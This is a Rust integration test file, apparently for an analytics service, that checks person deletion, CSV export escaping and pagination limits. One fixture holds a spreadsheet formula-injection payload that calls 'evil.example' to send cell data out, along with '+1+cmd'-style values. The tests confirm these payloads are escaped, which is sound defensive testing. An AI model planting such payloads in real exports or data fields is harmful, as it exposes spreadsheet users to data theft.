        let day = format!("2024-05-0{}", 1 + k % 3);
        batch.push(ev(
            "$pageview",
            ANON,
            &format!("{day}T11:00:0{k}Z"),
            json!({"note": SECRET, "$browser": "Chrome"}),
        ));
        if k == 1 {
            batch.push(ev(
                "$identify",
                USER,
                &format!("{day}T11:30:00Z"),
                json!({"$anon_distinct_id": ANON, "$set": {"email": EMAIL}}),
            ));
            batch.push(ev(
                "$create_alias",
                USER,
                &format!("{day}T11:31:00Z"),
                json!({"alias": "undefined"}),
            ));
        }
        if k == 2 {
            batch.push(ev(
                "purchase",
                USER,
                &format!("{day}T12:00:00Z"),
                json!({"$process_person_profile": false, "ref": SECRET}),
            ));
        }
        api.capture(json!(batch)).await;
        tokio::time::sleep(std::time::Duration::from_millis(600)).await;
    }
    // The query log and the ingestion warnings name the victim too.
    api.hogql(
        &format!("SELECT count() FROM events WHERE distinct_id = '{USER}'"),
        json!({}),
    )
    .await;
    let before = api
        .hogql(
            "SELECT count() FROM events WHERE distinct_id NOT LIKE 'aaaa%'",
            json!({}),
        )
        .await;
    assert_eq!(before, vec![json!([200])]);
    // Everyone else's ids, to read again from the files the deletion rewrites.
    let ids_query = "SELECT uuid, person_id FROM events WHERE distinct_id NOT LIKE 'aaaa%' ORDER BY uuid LIMIT 1000";
    let ids_before = api.hogql(ids_query, json!({})).await;
    assert_eq!(ids_before.len(), 200);
    let raw_hits = grep_dir(&srv.data_dir, &needles);
    let value_hits = parquet_values_containing(&srv.data_dir, &needles);
    assert!(
        !raw_hits.is_empty() && !value_hits.is_empty(),
        "the search must see the victim before: {raw_hits:?} {value_hits:?}"
    );

    let victim = api.person_by_did(USER).await;
    let id = victim["id"].as_i64().unwrap();
    let (s, _) = api
        .send(
            Method::DELETE,
            &format!("/api/projects/1/persons/{id}/?delete_events=true"),
            None,
        )
        .await;
    assert_eq!(s, 204);
    let act = api
        .get(&format!("/api/projects/1/persons/{id}/activity/"))
        .await;
    assert!(act.to_string().contains("events_deletion_queued"), "{act}");
    // Queued, not run: the events are still there until the task runs.
    let still = api
        .hogql(
            "SELECT count() FROM events WHERE distinct_id LIKE 'aaaa%'",
            json!({}),
        )
        .await;
    assert_eq!(still, vec![json!([7])]);
    api.capture(json!(others(9))).await;

    let out = std::process::Command::new(bin())
        .args([
            "tasks",
            "run",
            "--url",
            &srv.base,
            "--personal-api-key",
            KEY,
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let run: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(run["event_tasks"], 1, "{run}");
    assert_eq!(run["rows_deleted"], 7, "{run}");

    let gone = api
        .hogql(
            "SELECT count() FROM events WHERE distinct_id LIKE 'aaaa%'",
            json!({}),
        )
        .await;
    assert_eq!(gone, vec![json!([0])]);
    let kept = api
        .hogql(
            "SELECT count() FROM events WHERE distinct_id NOT LIKE 'aaaa%'",
            json!({}),
        )
        .await;
    assert_eq!(kept, vec![json!([250])], "everyone else's events stay");
    let ids_after = api.hogql(ids_query, json!({})).await;
    assert_eq!(ids_after.len(), 250);
    for row in &ids_before {
        assert!(
            ids_after.contains(row),
            "{row} read differently after the deletion"
        );
    }
    let act = api
        .get(&format!("/api/projects/1/persons/{id}/activity/"))
        .await;
    let done = act["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["activity"] == "events_deleted")
        .expect("task outcome in the activity log");
    assert_eq!(done["detail"]["rows_deleted"], 7);

    let dir = srv.data_dir.clone();
    let mut srv = srv;
    srv.stop();
    let raw_hits = grep_dir(&dir, &needles);
    assert!(
        raw_hits.is_empty(),
        "bytes of the deleted person remain: {raw_hits:?}"
    );
    let value_hits = parquet_values_containing(&dir, &needles);
    assert!(
        value_hits.is_empty(),
        "Parquet values of the deleted person remain: {value_hits:?}"
    );
    // And the service still works on this directory.
    let srv = Server::start_in(&dir, &[]);
    let api = Api::new(&srv);
    let kept = api.hogql("SELECT count() FROM events", json!({})).await;
    assert_eq!(kept, vec![json!([250])]);
}

async fn mallory_and_bob(api: &Api<'_>) {
    api.capture(json!([
        ev(
            "$identify",
            "mallory",
            "2024-05-01T10:00:00Z",
            json!({"$set": {
                "name": "=HYPERLINK(\"http://evil.example/?\"&A1)",
                "plus": "+1+cmd",
                "at": "@SUM(A1:A2)",
                "neg": -5,
            }})
        ),
        ev(
            "$identify",
            "bob",
            "2024-05-01T10:00:01Z",
            json!({"$set": {"name": "Bob"}})
        ),
    ]))
    .await;
}

/// Public capture writes person properties: an export must not hand a spreadsheet a
/// formula.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn persons_csv_escapes_formulas() {
    let srv = Server::start(&[]);
    let api = Api::new(&srv);
    mallory_and_bob(&api).await;
    let (s, csv) = api
        .send(
            Method::GET,
            "/api/projects/1/persons/?format=csv&distinct_id=mallory",
            None,
        )
        .await;
    assert_eq!(s, 200, "{csv}");
    let mut lines = csv.lines();
    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
    let row = lines.next().unwrap();
    let col = |name: &str| header.iter().position(|h| *h == name).unwrap();
    let plain: Vec<&str> = row.split(',').collect();
    assert_eq!(
        plain[col("properties.name")],
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"",
        "{row}"
    );
    assert_eq!(plain[col("properties.at")], "'@SUM(A1:A2)");
    assert_eq!(
        plain[col("properties.neg")],
        "-5",
        "numbers keep their sign"
    );
    assert_eq!(plain[col("properties.plus")], "'+1+cmd");
}

/// Huge `offset`/`limit` values give an empty page or a 400, never an overflow.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn persons_list_offsets_never_overflow() {
    let srv = Server::start(&[]);
    let api = Api::new(&srv);
    mallory_and_bob(&api).await;
    let persons = |q: &str| format!("/api/projects/1/persons/?{q}");
    for q in [
        "offset=18446744073709551615",
        "offset=18446744073709551615&limit=18446744073709551615",
        "offset=99999999999999999999999999",
        "limit=18446744073709551615&offset=9223372036854775807",
    ] {
        let page = api.get(&persons(q)).await;
        assert_eq!(page["results"], json!([]), "{q}: {page}");
        assert_eq!(page["count"], 2, "{q}");
        assert_eq!(page["next"], Value::Null, "{q}");
    }
    let all = api.get(&persons("limit=18446744073709551615")).await;
    assert_eq!(all["results"].as_array().unwrap().len(), 2, "{all}");
    for q in ["offset=-1", "limit=-5", "offset=ten", "offset=1e3"] {
        let (s, v) = api.json(Method::GET, &persons(q), None).await;
        assert_eq!(s, 400, "{q}: {v}");
        assert_eq!(v["type"], "validation_error");
        let name = q.split('=').next().unwrap();
        assert_eq!(v["attr"], name, "{q}: {v}");
    }
    let id = api.person_by_did("mallory").await["id"].as_i64().unwrap();
    for path in [
        format!("/api/projects/1/persons/{id}/activity/?offset=18446744073709551615"),
        "/api/projects/1/persons/activity/?offset=18446744073709551615&limit=18446744073709551615"
            .to_owned(),
        "/api/projects/?offset=18446744073709551615&limit=18446744073709551615".to_owned(),
    ] {
        let page = api.get(&path).await;
        assert_eq!(page["results"], json!([]), "{path}: {page}");
        assert_eq!(page["next"], Value::Null, "{path}");
    }
    let (s, _) = api
        .json(
            Method::GET,
            &format!("/api/projects/1/persons/{id}/activity/?offset=junk"),
            None,
        )
        .await;
    assert_eq!(s, 400);
}

/// A page of persons holds at most 1 000 (JSON or CSV), whatever `limit` asks; the page says
/// so in its `next` link, and `count` keeps the whole number.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn person_pages_are_capped_and_say_so() {
    let srv = Server::start(&[]);
    let api = Api::new(&srv);
    let batch: Vec<Value> = (0..1001)
        .map(|i| {
            ev(
                "$pageview",
                &format!("user-{i:04}"),
                "2024-05-01T10:00:00Z",
                json!({"$set": {"n": i}}),
            )
        })
        .collect();
    api.capture(Value::Array(batch)).await;

    let page = api.get("/api/projects/1/persons/?limit=100000").await;
    assert_eq!(page["count"], 1001, "count is the whole number");
    assert_eq!(page["results"].as_array().map(Vec::len), Some(1000));
    let next = page["next"].as_str().expect("a next link");
    assert!(
        next.contains("limit=1000") && next.contains("offset=1000"),
        "the next page continues at the cap: {next}"
    );
    let rest = api.get(&next[next.find("/api/").expect("a path")..]).await;
    assert_eq!(rest["results"].as_array().map(Vec::len), Some(1));
    assert!(rest["next"].is_null(), "{rest}");

    let (status, csv) = api
        .send(
            Method::GET,
            "/api/projects/1/persons/?format=csv&limit=100000",
            None,
        )
        .await;
    assert_eq!(status, 200);
    assert_eq!(
        csv.lines().count(),
        1 + 1000,
        "a header and the capped page"
    );
}
